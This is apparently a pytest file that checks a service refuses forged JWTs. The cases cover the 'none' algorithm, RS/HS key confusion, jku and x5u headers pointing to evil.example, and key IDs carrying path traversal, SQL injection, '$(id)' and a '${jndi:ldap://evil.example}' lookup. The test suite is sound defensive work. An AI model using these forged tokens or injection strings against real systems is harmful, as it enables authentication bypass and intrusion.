"""Neither the algorithm nor the key of a token is its sender's to choose."""

from __future__ import annotations

import hmac
import json
import warnings

import pytest
from joserfc.jwk import ECKey, OctKey, OKPKey, RSAKey

from service.access.access_examples import AUDIENCE, ISSUER, b64, refusal
from studio_detector.errors import ConfigError
from studio_detector.service.settings import ServiceSettings

EVIL_RSA = RSAKey.generate_key(2048, {"kid": "rsa"})
EVIL_EC = ECKey.generate_key("P-256", {"kid": "ec"})


@pytest.mark.parametrize(
    "alg",
    ["none", "None", "NONE", "nOnE", "none ", " none", "\tnone", "", "null", "n\u043ene", "none\0"],
)
@pytest.mark.parametrize("signature", ["", "AAAA"])
def test_no_algorithm_in_any_spelling(tokens, issuer, alg, signature):
    text = f"{b64({'alg': alg, 'kid': 'rsa'})}.{b64(issuer.claims())}.{signature}"
    refusal(tokens, text)


@pytest.mark.parametrize("alg", [None, 0, True, ["RS256"], {"RS256": 1}, "rs256", "RS256 "])
def test_an_algorithm_that_is_none_of_ours(tokens, issuer, alg):
    text = f"{b64({'alg': alg, 'kid': 'rsa'})}.{issuer.token().split('.', 1)[1]}"
    refusal(tokens, text)


def test_no_algorithm_named_at_all(tokens, issuer):
    refusal(tokens, f"{b64({'kid': 'rsa'})}.{issuer.token().split('.', 1)[1]}")


def mac_token(issuer, algorithm, secret, kid="rsa"):
    """A token with a MAC; joserfc itself would not make one with such secrets."""
    signed = f"{b64({'alg': algorithm, 'kid': kid})}.{b64(issuer.claims())}"
    mac = hmac.digest(secret, signed.encode(), algorithm.replace("HS", "sha"))
    return f"{signed}.{b64(mac)}"


@pytest.mark.parametrize("algorithm", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("form", ["pem", "pem stripped", "der", "jwk", "modulus", "empty"])
def test_the_public_key_as_the_secret_of_a_mac(tokens, issuer, algorithm, form):
    """RS/HS confusion; CVE-2026-48526 was its form with a JWK."""
    public = issuer.rsa.as_dict(private=False)
    secret = {
        "pem": issuer.rsa.as_pem(private=False),
        "pem stripped": issuer.rsa.as_pem(private=False).strip(),
        "der": issuer.rsa.as_der(private=False),
        "jwk": json.dumps(public).encode(),
        "modulus": public["n"].encode(),
        "empty": b"",
    }[form]
    refusal(tokens, mac_token(issuer, algorithm, secret))


def test_a_mac_with_a_secret_that_stands_in_the_issuers_set(issuer, make_tokens):
    shared = OctKey.generate_key(256, {"kid": "shared"})
    data = issuer.key_set(shared.as_dict(private=True))
    tokens = make_tokens(load=lambda: data)
    refusal(tokens, mac_token(issuer, "HS256", shared.raw_value, "shared"))


@pytest.mark.parametrize(("algorithm", "kid"), [("RS256", "rsa"), ("ES256", "ec")])
def test_another_algorithm_than_those_of_the_settings(issuer, make_tokens, algorithm, kid):
    tokens = make_tokens(algorithms=("EdDSA",))
    assert "jwt_algorithms" in refusal(tokens, issuer.token({"alg": algorithm, "kid": kid}))


@pytest.mark.parametrize(
    ("algorithm", "kid"),
    [("ES256", "rsa"), ("EdDSA", "rsa"), ("RS256", "ec"), ("EdDSA", "ec"), ("RS256", "ed")],
)
def test_a_key_of_another_kind(tokens, issuer, algorithm, kid):
    key = {"RS256": issuer.rsa, "ES256": issuer.ec, "EdDSA": issuer.ed}[algorithm]
    refusal(tokens, issuer.token({"alg": algorithm, "kid": kid}, key=key))


def test_another_algorithm_of_the_same_key(tokens, issuer):
    refusal(tokens, issuer.token({"alg": "PS256"}))
    refusal(tokens, issuer.token({"alg": "RS512"}))


@pytest.mark.parametrize("name", ["none", "HS256", "HS384", "HS512", "ES256K", "A128KW", "dir", ""])
@pytest.mark.parametrize("others", [(), ("RS256",)])
def test_settings_with_an_algorithm_that_must_not_be_taken(name, others):
    with pytest.raises(ConfigError) as caught:
        ServiceSettings(jwt_algorithms=(*others, name))
    assert caught.value.code == "config_invalid_value"
    assert repr(name) in caught.value.message


@pytest.mark.parametrize(
    "given",
    [
        {"jwt_issuer": ISSUER},
        {"jwt_issuer": ISSUER, "jwt_audience": AUDIENCE},
        {"jwt_keys": "keys.json"},
        {"jwt_issuer": ISSUER, "jwt_keys": "keys.json"},
        {"jwt_issuer": ISSUER, "jwt_audience": "", "jwt_keys": "keys.json"},
        {
            "jwt_issuer": ISSUER,
            "jwt_audience": AUDIENCE,
            "jwt_keys": "keys.json",
            "jwt_algorithms": (),
        },
    ],
)
def test_settings_that_take_tokens_by_half_a_rule(given):
    with pytest.raises(ConfigError) as caught:
        ServiceSettings(**given)
    assert "set jwt_" in caught.value.message


@pytest.mark.parametrize("place", ["http://id.example/keys", "ftp://x/y", "file:///etc/keys"])
def test_settings_with_keys_at_an_address_that_proves_nothing(place):
    with pytest.raises(ConfigError):
        ServiceSettings(jwt_issuer=ISSUER, jwt_audience=AUDIENCE, jwt_keys=place)


@pytest.mark.parametrize(
    "header",
    [
        pytest.param({"jwk": EVIL_RSA.as_dict(private=False)}, id="embedded"),
        pytest.param({"jku": "https://evil.example/keys.json"}, id="pointed to"),
        pytest.param({"x5u": "https://evil.example/chain.pem"}, id="a chain pointed to"),
        pytest.param({"x5c": ["MIIB"]}, id="a chain"),
        pytest.param({"x5t": "AAAA", "x5t#S256": "AAAA"}, id="a thumbprint"),
    ],
)
def test_keys_that_a_header_brings_along_are_not_looked_at(tokens, issuer, header):
    refusal(tokens, issuer.token(header, key=EVIL_RSA))
    refusal(tokens, issuer.token(header | {"kid": None}, key=EVIL_RSA))
    # They may be there, as some issuers put them into every token.
    assert tokens.recognise(issuer.token(header)).tenant == "acme"


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "https://evil.example/key",
        "' UNION SELECT 'secret' --",
        "rsa\0",
        "RSA",
        " rsa",
        "",
        "x" * 500,
        "$(id)",
        "${jndi:ldap://evil.example}",
    ],
)
def test_a_name_of_a_key_is_a_name_and_no_place(tokens, issuer, kid):
    refusal(tokens, issuer.token({"kid": kid}, key=EVIL_RSA))
    refusal(tokens, issuer.token({"kid": kid}, key=issuer.rsa))


@pytest.mark.parametrize("kid", [0, 1, True, ["rsa"], {"rsa": 1}, 1.5])
def test_a_name_of_a_key_is_a_text(tokens, issuer, kid):
    refusal(tokens, issuer.token({"kid": kid}, key=issuer.rsa))


def test_keys_of_somebody_else_under_the_same_name(tokens, issuer):
    refusal(tokens, issuer.token(key=EVIL_RSA))
    refusal(tokens, issuer.token({"alg": "ES256", "kid": "ec"}, key=EVIL_EC))


def test_another_okp_key_under_the_name_of_ours(tokens, issuer):
    evil = OKPKey.generate_key("Ed25519", {"kid": "ed"})
    refusal(tokens, issuer.token({"alg": "EdDSA", "kid": "ed"}, key=evil))


def test_the_issuers_name_for_its_algorithm_is_no_warning(tokens, issuer):
    """joserfc warns at each use of EdDSA, which RFC 9864 calls Ed25519."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        tokens.recognise(issuer.token({"alg": "EdDSA", "kid": "ed"}))
